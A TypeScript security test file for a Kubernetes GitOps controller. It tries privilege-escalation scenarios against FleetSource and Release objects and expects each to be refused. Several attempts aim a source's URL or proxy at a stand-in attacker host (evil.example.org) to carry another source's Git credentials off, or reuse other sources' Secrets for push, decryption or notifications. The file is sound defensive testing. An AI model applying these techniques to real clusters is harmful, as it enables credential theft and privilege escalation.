// The attacker may write one FleetSource: sync does nothing for it that its writer may not do.
import { join } from 'node:path'
import { CLUSTERS_NAMESPACE, SYSTEM_NAMESPACE } from '#api/names.ts'
import { typeOf } from '#kube/installed-type.ts'
import { manifestsIn } from '#delivery/release-manifests.ts'
import {
  accountOfProgram,
  type Answer,
  type Attempt,
  type AttackWorld,
  tryOnServers,
} from '#test/support/worlds/attack-world.ts'

const RBAC = 'rbac.authorization.k8s.io'
const SOURCES = `/apis/kubenode.io/v1alpha1/namespaces/${SYSTEM_NAMESPACE}/fleetsources`
const WRITES = { kinds: ['ConfigMap'], namespaces: ['shop'] }
const sourceOf = (name: string, spec: object) => ({
  apiVersion: 'kubenode.io/v1alpha1',
  kind: 'FleetSource',
  metadata: { name },
  spec: { url: 'https://git.example.org/shop', tracks: [{ name: 'all', pipelineRef: { name: 'p' } }], ...spec },
})

async function madeBy({ ask, who }: AttackWorld, path: string, body: object): Promise<void> {
  const { status, text } = await ask(who.installer, 'POST', path, { body })
  if (status !== 201 && status !== 409) throw new Error(`cannot prepare ${path}: ${text}`)
}

/** Gives the tenant these rights in our namespace. */
async function given(world: AttackWorld, rules: readonly object[]): Promise<void> {
  const [apiVersion, metadata] = [`${RBAC}/v1`, { name: 'one-source', namespace: SYSTEM_NAMESPACE }]
  const at = `/apis/${apiVersion}/namespaces/${SYSTEM_NAMESPACE}`
  await madeBy(world, `${at}/roles`, { apiVersion, kind: 'Role', metadata, rules })
  const roleRef = { apiGroup: RBAC, kind: 'Role', name: metadata.name }
  const subjects = [{ kind: 'User', name: world.who.tenant.user, apiGroup: RBAC }]
  await madeBy(world, `${at}/rolebindings`, { apiVersion, kind: 'RoleBinding', metadata, roleRef, subjects })
}

/** May write FleetSource `shop`, whose Secret the installer named, and make others. */
const ownSource = async (world: AttackWorld): Promise<void> => {
  const resources = ['fleetsources']
  await given(world, [
    { apiGroups: ['kubenode.io'], resources, verbs: ['create', 'get'] },
    { apiGroups: ['kubenode.io'], resources, resourceNames: ['shop'], verbs: ['update', 'patch', 'delete'] },
  ])
  await reads(world, world.who.tenant.user, 'shop-slack', '')
  await madeBy(world, SOURCES, sourceOf('shop', { writes: WRITES, secretRef: { name: 'shop-git' } }))
}

/** Of a Secret where those of FleetSources in our namespace are: to read it, or to declare what names it. */
async function reads(world: AttackWorld, user: string, secret: string, apiGroup: '' | 'kubenode.io'): Promise<void> {
  const [apiVersion, metadata] = [`${RBAC}/v1`, { name: `of-${secret}`, namespace: CLUSTERS_NAMESPACE }]
  const at = `/apis/${apiVersion}/namespaces/${CLUSTERS_NAMESPACE}`
  const verbs = [apiGroup === '' ? 'get' : 'declare']
  const rules = [{ apiGroups: [apiGroup], resources: ['secrets'], resourceNames: [secret], verbs }]
  await madeBy(world, `${at}/roles`, { apiVersion, kind: 'Role', metadata, rules })
  const roleRef = { apiGroup: RBAC, kind: 'Role', name: metadata.name }
  const subjects = [{ kind: 'User', name: user, apiGroup: RBAC }]
  await madeBy(world, `${at}/rolebindings`, { apiVersion, kind: 'RoleBinding', metadata, roleRef, subjects })
}

const changes =
  (as: 'tenant' | 'installer', spec: object, query = '') =>
  async (world: AttackWorld): Promise<Answer> => {
    await ownSource(world)
    return world.ask(world.who[as], 'PATCH', `${SOURCES}/shop${query}`, { body: { spec } })
  }
const makes =
  (as: 'tenant' | 'installer', spec: object) =>
  async (world: AttackWorld): Promise<Answer> => {
    await ownSource(world)
    return world.ask(world.who[as], 'POST', `${SOURCES}?dryRun=All`, { body: sourceOf('more', spec) })
  }
const sourceAttempt = (what: string, spec: object, refused: RegExp): Attempt => ({
  name: `S25 who may write one FleetSource ${what}`,
  attempt: changes('tenant', spec),
  control: changes('installer', spec, '?dryRun=All'),
  refused,
})

const NOTIFIED = [
  ['webhook', { webhook: { url: 'https://hooks.example.org/', secretRef: { name: 'other-hooks' } } }],
  ['slack', { slack: { secretRef: { name: 'other-slack' } } }],
  ['commitStatus', { commitStatus: { forge: 'GitHub', project: 'a/b', secretRef: { name: 'other-token' } } }],
] as const
/** All other places are taken by targets whose Secret the tenant may read. */
const QUIET = Array.from({ length: 7 }, (_, n) => ({ name: `own-${n}`, slack: { secretRef: { name: 'shop-slack' } } }))

const BEYOND = /needs the right to create fleetsources\/unlimited/
const FLEET_SOURCES: readonly Attempt[] = [
  sourceAttempt(
    'has sync show them the Secret of another source',
    { secretRef: { name: 'other-git' } },
    /right to read that Secret/,
  ),
  sourceAttempt(
    'has sync take a Secret that they cannot read to their server',
    { url: 'https://evil.example.org/a' },
    /right to read that Secret/,
  ),
  sourceAttempt(
    'has sync push with the Secret of another source',
    { push: { secretRef: { name: 'other-git' } } },
    /Secret of spec.push .*right to read that Secret/,
  ),
  sourceAttempt(
    'finds out the webhook token of another source by trying',
    { webhook: { secretRef: { name: 'other-hook' } } },
    /Secret of spec.webhook .*right to read that Secret/,
  ),
  sourceAttempt(
    'has sync show the password of its proxy to theirs',
    { proxy: 'http://evil.example.org:3128' },
    /right to read that Secret/,
  ),
  sourceAttempt(
    'opens what was encrypted for another source',
    { decryption: { provider: 'sops', secretRef: { name: 'other-age' } } },
    /Secret of spec.decryption .*right to read that Secret/,
  ),
  ...NOTIFIED.map(([how, target]) =>
    sourceAttempt(
      `notifies with the Secret of another source: ${how}`,
      { notify: [{ name: 'theirs', ...target }] },
      /Secret of spec.notify .*right to read that Secret/,
    ),
  ),
  sourceAttempt(
    'notifies with it at the end of the list',
    { notify: [...QUIET, { name: 'theirs', slack: { secretRef: { name: 'other-slack' } } }] },
    /Secret of spec.notify .*right to read that Secret/,
  ),
  sourceAttempt('writes with all rights of sync', { writes: null }, BEYOND),
  sourceAttempt('takes over what another source wrote', { replaces: ['kubenode-system/other'] }, BEYOND),
  {
    name: 'S25 who may make a FleetSource makes one that writes with all rights of sync',
    attempt: makes('tenant', {}),
    control: makes('tenant', { writes: WRITES }),
    refused: BEYOND,
  },
  {
    name: 'S25 who may make a FleetSource makes one with the Secret of another',
    attempt: makes('tenant', { writes: WRITES, secretRef: { name: 'other-git' } }),
    control: makes('installer', { writes: WRITES, secretRef: { name: 'other-git' } }),
    refused: /right to read that Secret/,
  },
  {
    name: 'S25 who may do everything in a namespace makes a FleetSource that writes with all rights of sync',
    attempt: ({ ask, who }) =>
      ask(who.tenant, 'POST', SOURCES.replace(SYSTEM_NAMESPACE, 'shop'), { body: sourceOf('mine', {}) }),
    control: changes('tenant', { interval: '2m' }),
    refused: BEYOND,
  },
]

/** The only source of its hub: sync follows it with its own rights. */
const ofSync = async (world: AttackWorld): Promise<void> => {
  await given(world, [
    { apiGroups: ['kubenode.io'], resources: ['fleetsources', 'releases', 'releases/status'], verbs: ['*'] },
  ])
  await madeBy(world, SOURCES, sourceOf('fleet', { interval: '1m' }))
}
const edits =
  (as: 'tenant' | 'installer' | 'sync', body: object, query = '') =>
  async (world: AttackWorld): Promise<Answer> => {
    await ofSync(world)
    return world.ask(world.who[as], 'PATCH', `${SOURCES}/fleet${query}`, { body })
  }
const OF_SYNC: Readonly<Record<string, object>> = {
  'to their repository': { url: 'https://evil.example.org/fleet' },
  'to their branch': { ref: { branch: 'theirs' } },
  'to their folder': { path: 'theirs' },
  'past the stages of its pipeline': { tracks: [{ name: 'all', pipelineRef: { name: 'at-once' } }] },
  'past the limit of deletions': { prune: { guard: '100%' } },
}
const RELEASES = SOURCES.replace('fleetsources', 'releases')
const release = (name: string) => ({
  apiVersion: 'kubenode.io/v1alpha1',
  kind: 'Release',
  metadata: { name },
  spec: { source: 'fleet', track: 'all', pipeline: 'p', commit: 'a'.repeat(40), digests: {} },
})

const WHAT_SYNC_FOLLOWS: readonly Attempt[] = [
  ...Object.entries(OF_SYNC).map(([where, spec]): Attempt => ({
    name: `S25 who may edit the FleetSource that sync follows as itself leads it ${where}`,
    attempt: edits('tenant', { spec }),
    control: edits('installer', { spec }, '?dryRun=All'),
    refused: BEYOND,
  })),
  {
    name: 'S25 who may edit the FleetSource that sync follows as itself makes it anew',
    attempt: async (world) => {
      await ofSync(world)
      return world.ask(world.who.tenant, 'POST', `${SOURCES}?dryRun=All`, { body: sourceOf('anew', {}) })
    },
    // Nothing of it makes sync act.
    control: edits('tenant', { metadata: { labels: { team: 'platform' } } }),
    refused: BEYOND,
  },
  {
    name: 'S25 who may edit Releases has sync apply a commit that no branch has',
    attempt: async (world) => {
      await ofSync(world)
      return world.ask(world.who.tenant, 'POST', RELEASES, { body: release('theirs') })
    },
    control: async (world) =>
      world.ask(world.who.installer, 'POST', `${RELEASES}?dryRun=All`, { body: release('own') }),
    refused: BEYOND,
  },
  {
    name: 'S25 who may edit Releases says that a stage succeeded',
    attempt: async (world) => {
      await ofSync(world)
      await madeBy(world, RELEASES, release('open'))
      return world.ask(world.who.tenant, 'PATCH', `${RELEASES}/open/status`, {
        body: { status: { phase: 'Succeeded' } },
      })
    },
    control: async (world) =>
      world.ask(world.who.tenant, 'PATCH', `${RELEASES}/open`, { body: { metadata: { labels: { seen: 'yes' } } } }),
    refused: BEYOND,
  },
  {
    name: 'S25 who may edit Releases deletes one that waits, so that it is made again with other gates before it',
    attempt: async (world) => {
      await ofSync(world)
      await madeBy(world, RELEASES, release('waits'))
      return world.ask(world.who.tenant, 'DELETE', `${RELEASES}/waits`)
    },
    control: async (world) => world.ask(world.who.installer, 'DELETE', `${RELEASES}/waits?dryRun=All`),
    refused: BEYOND,
  },
]

const SHOP_SECRETS = '/api/v1/namespaces/shop/secrets'
const sync = accountOfProgram('sync')

/** As docs/tasks/private-repository.md grants one Secret of another namespace to sync. */
const grantedToSync = async (world: AttackWorld, secret: string): Promise<void> => {
  const [apiVersion, metadata] = [`${RBAC}/v1`, { name: 'kubenode-git', namespace: 'shop' }]
  const at = `/apis/${apiVersion}/namespaces/shop`
  const rules = [{ apiGroups: [''], resources: ['secrets'], resourceNames: [secret], verbs: ['get'] }]
  await madeBy(world, `${at}/roles`, { apiVersion, kind: 'Role', metadata, rules })
  const roleRef = { apiGroup: RBAC, kind: 'Role', name: metadata.name }
  const subjects = [{ kind: 'ServiceAccount', name: 'kubenode-sync', namespace: SYSTEM_NAMESPACE }]
  await madeBy(world, `${at}/rolebindings`, { apiVersion, kind: 'RoleBinding', metadata, roleRef, subjects })
}

const SECRETS_OF_SOURCES: readonly Attempt[] = [
  {
    name: 'S27 sync reads a Secret of a namespace that granted it another',
    attempt: async (world) => {
      for (const name of ['shop-git', 'payments']) {
        const body = { apiVersion: 'v1', kind: 'Secret', metadata: { name }, stringData: { password: 'p' } }
        await madeBy(world, SHOP_SECRETS, body)
      }
      await grantedToSync(world, 'shop-git')
      return world.ask(sync, 'GET', `${SHOP_SECRETS}/payments`)
    },
    control: ({ ask }) => ask(sync, 'GET', `${SHOP_SECRETS}/shop-git`),
    refused: 403,
  },
  {
    name: 'S27 a tenant names the Secret of another namespace in a FleetSource of their own',
    attempt: ({ ask, who }) =>
      ask(who.tenant, 'POST', `${SOURCES.replace(SYSTEM_NAMESPACE, 'shop')}?fieldValidation=Strict`, {
        body: sourceOf('theirs', { writes: WRITES, secretRef: { name: 'fleet-git', namespace: SYSTEM_NAMESPACE } }),
      }),
    control: ({ ask, who }) =>
      ask(who.tenant, 'POST', `${SOURCES.replace(SYSTEM_NAMESPACE, 'shop')}?dryRun=All&fieldValidation=Strict`, {
        body: sourceOf('theirs', { writes: WRITES, secretRef: { name: 'fleet-git' } }),
      }),
    refused: /unknown field "spec.secretRef.namespace"/,
  },
]

const onHub = async ({ admin }: AttackWorld): Promise<void> => {
  for (const object of manifestsIn(join(import.meta.dirname, '../../deploy/hub')))
    await admin.apply(typeOf(object), object, { fieldManager: 'test', force: true })
}

/** What sync writes for a commit of a source that does not verify commits. */
const declares =
  (name: string, spec: object, isListed = false) =>
  async (world: AttackWorld): Promise<Answer> => {
    await onHub(world)
    await madeBy(world, SOURCES, sourceOf('followed', { secretRef: { name: 'fleet-git' } }))
    if (isListed) await reads(world, world.who.sync.user, 'listed-git', 'kubenode.io')
    const path = `${SOURCES}/${name}?fieldManager=kubenode-sync&force=true&dryRun=All`
    return world.ask(world.who.sync, 'PATCH', path, {
      body: sourceOf(name, spec),
      type: 'application/apply-patch+yaml',
    })
  }
const byCommit = (what: string, name: string, spec: object, refused: RegExp): Attempt => ({
  name: `S13 a commit ${what}`,
  attempt: declares(name, spec),
  control: declares('another', { url: 'https://git.example.org/b', secretRef: { name: 'listed-git' } }, true),
  refused,
})
const EVIL = 'https://evil.example.org/fleet'
const UNLISTED = /a commit .* Secret .* not on the list of the installer/
const DECLARED_SOURCES: readonly Attempt[] = [
  byCommit(
    'takes the credentials of its source to another server',
    'followed',
    { url: EVIL, secretRef: { name: 'fleet-git' } },
    UNLISTED,
  ),
  byCommit(
    'declares a source that shows the credentials of another',
    'mine',
    { url: EVIL, secretRef: { name: 'fleet-git' } },
    UNLISTED,
  ),
  byCommit(
    'declares one that pushes with those of another',
    'mine',
    { url: EVIL, push: { secretRef: { name: 'fleet-git' } } },
    UNLISTED,
  ),
  byCommit(
    'declares one that opens what was encrypted for another',
    'mine',
    { url: EVIL, decryption: { provider: 'sops', secretRef: { name: 'fleet-age' } } },
    UNLISTED,
  ),
  byCommit(
    'declares one that notifies with the token of another',
    'mine',
    { url: EVIL, notify: [{ name: 'a', ...NOTIFIED[2][1] }] },
    UNLISTED,
  ),
  {
    name: 'S13 a commit leads its source, with its credentials, to a proxy of its own',
    attempt: declares('followed', { secretRef: { name: 'fleet-git' }, proxy: 'http://evil.example.org:3128' }),
    // What it was made with stays.
    control: declares('followed', { secretRef: { name: 'fleet-git' }, interval: '2m' }),
    refused: UNLISTED,
  },
]

tryOnServers('who may write one FleetSource', FLEET_SOURCES)
tryOnServers('what a commit declares of FleetSources', DECLARED_SOURCES)
tryOnServers('whose Secrets sync reads', SECRETS_OF_SOURCES)
tryOnServers('who may edit what sync follows', WHAT_SYNC_FOLLOWS)
